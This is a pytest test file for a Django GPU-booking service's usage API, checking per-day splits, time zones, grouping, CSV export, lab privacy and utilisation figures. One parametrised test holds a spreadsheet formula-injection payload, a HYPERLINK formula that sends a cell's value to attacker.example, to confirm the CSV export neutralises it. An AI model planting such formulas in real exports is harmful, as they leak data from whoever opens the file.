from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from labgpu.bookings.tests.factories import BookingFactory
from labgpu.catalog.models import ProviderAccount
from labgpu.provisioning.models import Node
from labgpu.usage.models import BookingUtilisation, UsageRecord

pytestmark = pytest.mark.django_db

T0 = datetime(2030, 3, 1, 22, 0, tzinfo=UTC)


def record(booking, *, hours: float, start=T0, charged=True):
    node = Node.objects.create(
        booking=booking,
        attempt=Node.objects.filter(booking=booking).count() + 1,
        provider_account=ProviderAccount.objects.first(),
        region="tor1",
        size="gpu-mi300x1-192gb",
        image="gpu-amd-base",
        status="destroyed",
    )
    return UsageRecord.objects.create(
        node=node,
        provider_account=node.provider_account,
        droplet_id=f"d-{node.pk}",
        booking=booking,
        lab=booking.lab,
        user=booking.user,
        pool=booking.pool,
        instance_type=booking.pool.instance_type,
        started_at=start,
        ended_at=start + timedelta(hours=hours),
        seconds=int(hours * 3600),
        gpu_count=1,
        price_per_hour=Decimal("2.00"),
        charged_to_lab=charged,
    )


@pytest.fixture
def finished(alice, vision_lab, pool):
    booking = BookingFactory(
        lab=vision_lab,
        user=alice,
        pool=pool,
        start=T0,
        end=T0 + timedelta(hours=4),
        status="completed",
        price_per_hour=Decimal("2.00"),
    )
    record(booking, hours=4)
    record(booking, hours=1, charged=False)  # a failed node: the provider's cost
    return booking


def test_usage_splits_across_days_and_skips_provider_cost(alice, as_alice, finished):
    alice.timezone = "UTC"
    alice.save(update_fields=["timezone"])
    response = as_alice.get(
        "/api/v1/usage/",
        {"start": "2030-03-01T00:00:00Z", "end": "2030-03-03T00:00:00Z", "group_by": "day"},
    )
    assert response.status_code == 200, response.content
    rows = {row["day"]: row for row in response.json()}
    assert rows["2030-03-01"]["gpu_hours"] == "2.00"  # 22:00–24:00
    assert rows["2030-03-02"]["gpu_hours"] == "2.00"
    assert rows["2030-03-02"]["cost"] == "4.00"


def test_usage_days_are_counted_in_the_profile_time_zone(alice, as_alice, finished):
    """22:00–02:00 UTC is 06:00–10:00 on one day in Shanghai (alice's zone): one row, that day."""
    response = as_alice.get(
        "/api/v1/usage/",
        {"start": "2030-02-28T16:00:00Z", "end": "2030-03-03T16:00:00Z", "group_by": "day"},
    )
    assert response.status_code == 200, response.content
    assert [(row["day"], row["gpu_hours"]) for row in response.json()] == [("2030-03-02", "4.00")]

    alice.timezone = "America/Los_Angeles"  # 14:00–18:00 on March 1st there
    alice.save(update_fields=["timezone"])
    response = as_alice.get(
        "/api/v1/usage/",
        {"start": "2030-03-01T08:00:00Z", "end": "2030-03-03T08:00:00Z", "group_by": "day"},
    )
    assert [(row["day"], row["gpu_hours"]) for row in response.json()] == [("2030-03-01", "4.00")]


def test_usage_by_lab_and_user_with_csv_export(as_bob, as_carol, finished):
    query = {"start": "2030-03-01T00:00:00Z", "end": "2030-04-01T00:00:00Z", "group_by": "lab,user"}
    rows = as_bob.get("/api/v1/usage/", query).json()
    assert rows == [
        {
            "lab": finished.lab_id,
            "lab_name": "Vision Lab",
            "user": finished.user_id,
            "user_name": "alice",
            "gpu_hours": "4.00",
            "cost": "8.00",
            "seconds": 14400,
            "booked_hours": 4.0,
            "used_hours": 0.0,
            "average_utilisation_pct": None,
        }
    ]
    csv = as_bob.get("/api/v1/usage/", {**query, "format": "csv"})
    assert csv["Content-Type"].startswith("text/csv")
    header = csv.content.decode().splitlines()[0]
    assert header == (
        "lab,lab_name,user,user_name,gpu_hours,cost,seconds,booked_hours,used_hours,"
        "average_utilisation_pct"
    )
    with_provider = as_carol.get("/api/v1/usage/", {**query, "include_provider_cost": "true"})
    assert with_provider.json()[0]["gpu_hours"] == "5.00"


def test_an_empty_csv_export_is_still_csv_with_its_header(as_alice):
    # Found by schemathesis: no rows rendered an empty body, which DRF sends without a
    # Content-Type.
    query = {"start": "2000-01-01T00:00:00Z", "end": "2000-01-02T00:00:00Z", "format": "csv"}
    response = as_alice.get("/api/v1/usage/", query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header = response.content.decode().splitlines()
    assert len(header) == 1 and "gpu_hours" in header[0].split(",")


def test_usage_is_private_to_the_lab(as_mallory, finished):
    rows = as_mallory.get(
        "/api/v1/usage/", {"start": "2030-03-01T00:00:00Z", "end": "2030-04-01T00:00:00Z"}
    ).json()
    assert rows == []


def test_usage_query_is_validated(as_alice):
    response = as_alice.get(
        "/api/v1/usage/",
        {"start": "2030-03-01T00:00:00Z", "end": "2030-04-01T00:00:00Z", "group_by": "moon"},
    )
    assert response.status_code == 400 and "group_by" in response.json()["extra"]["fields"]


def test_errors_stay_json_when_csv_was_asked_for(as_alice):
    response = as_alice.get(
        "/api/v1/usage/",
        {"start": "2030-03-01T00:00:00Z", "end": "2030-03-01T00:00:00Z", "format": "csv"},
    )
    assert response.status_code == 400
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["code"] == "end_before_start"


FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")'


@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\tlead", "\rlead"])
def test_usage_csv_neutralises_cells_that_spreadsheets_run_as_formulas(
    as_bob, finished, pool, name
):
    """Issue 11 item 9: a pool named `=HYPERLINK(…)` reached every lab's export as a formula."""
    import csv as csv_module
    import io

    pool.name = name
    pool.save(update_fields=["name"])
    query = {"start": "2030-03-01T00:00:00Z", "end": "2030-04-01T00:00:00Z", "group_by": "pool"}
    exported = as_bob.get("/api/v1/usage/", {**query, "format": "csv"})
    assert exported.status_code == 200
    (row,) = csv_module.DictReader(io.StringIO(exported.content.decode(), newline=""))
    assert row["pool_name"] == "'" + name  # OWASP: a leading single quote makes it text
    assert row["gpu_hours"] == "4.00" and row["pool"] == str(pool.pk)  # numbers stay numbers
    assert as_bob.get("/api/v1/usage/", query).json()[0]["pool_name"] == name  # JSON unchanged


def test_usage_shows_booked_vs_used_hours_and_average_utilisation_per_booking_user_and_lab(
    alice, bob, as_bob, vision_lab, pool, finished
):
    """4 metered hours; the heartbeats saw 4 h, 1 h of it in use at 50 % mean utilisation
    (BookingUtilisation is what utilisation_record sums; tested in health)."""
    BookingUtilisation.objects.create(
        booking=finished, observed_s=4 * 3600, active_s=3600, utilisation_s=3600 * 50 * 4
    )
    idle = BookingFactory(
        lab=vision_lab,
        user=bob,
        pool=pool,
        start=T0,
        end=T0 + timedelta(hours=2),
        status="completed",
        price_per_hour=Decimal("2.00"),
    )
    record(idle, hours=2)  # no heartbeat ever seen: used 0, average unknown
    window = {"start": "2030-03-01T00:00:00Z", "end": "2030-03-03T00:00:00Z"}
    rows = as_bob.get("/api/v1/usage/", {**window, "group_by": "booking"}).json()
    by_booking = {row["booking"]: row for row in rows}
    assert by_booking[finished.pk]["booked_hours"] == 4.0
    assert by_booking[finished.pk]["used_hours"] == 1.0
    assert by_booking[finished.pk]["average_utilisation_pct"] == 50.0
    assert by_booking[idle.pk]["booked_hours"] == 2.0
    assert by_booking[idle.pk]["used_hours"] == 0.0
    assert by_booking[idle.pk]["average_utilisation_pct"] is None
    users = {
        r["user_name"]: r
        for r in as_bob.get("/api/v1/usage/", {**window, "group_by": "user"}).json()
    }
    assert users["alice"]["used_hours"] == 1.0 and users["bob"]["used_hours"] == 0.0
    (lab,) = as_bob.get("/api/v1/usage/", {**window, "group_by": "lab"}).json()
    assert lab["booked_hours"] == 6.0 and lab["used_hours"] == 1.0
    assert lab["average_utilisation_pct"] == 50.0  # over the hours observed
    # Split over days, the used hours still add up.
    days = as_bob.get("/api/v1/usage/", {**window, "group_by": "day"}).json()
    assert sum(d["used_hours"] for d in days) == pytest.approx(1.0)


def test_usage_by_cost_centre_in_json_and_csv(as_bob, alice, vision_lab, pool, finished):
    import csv as csv_module
    import io

    from labgpu.budgets.models import CostCentre

    grant = CostCentre.objects.create(lab=vision_lab, code="NSF-123")
    funded = BookingFactory(
        lab=vision_lab,
        user=alice,
        pool=pool,
        start=T0 + timedelta(days=2),
        end=T0 + timedelta(days=2, hours=3),
        status="completed",
        cost_centre=grant,
        slot=1,
    )
    record(funded, hours=3, start=funded.start)
    query = {
        "start": "2030-03-01T00:00:00Z",
        "end": "2030-04-01T00:00:00Z",
        "group_by": "cost_centre",
    }
    rows = as_bob.get("/api/v1/usage/", query).json()
    assert [(r["cost_centre"], r["cost_centre_name"], r["cost"]) for r in rows] == [
        (None, "", "8.00"),  # `finished`: 4 charged hours at 2.00, booked to no cost centre
        (grant.pk, "NSF-123", "6.00"),
    ]
    exported = as_bob.get("/api/v1/usage/", {**query, "format": "csv"}).content.decode()
    table = list(csv_module.DictReader(io.StringIO(exported)))
    assert [(r["cost_centre_name"], r["cost"]) for r in table] == [
        ("", "8.00"),
        ("NSF-123", "6.00"),
    ]
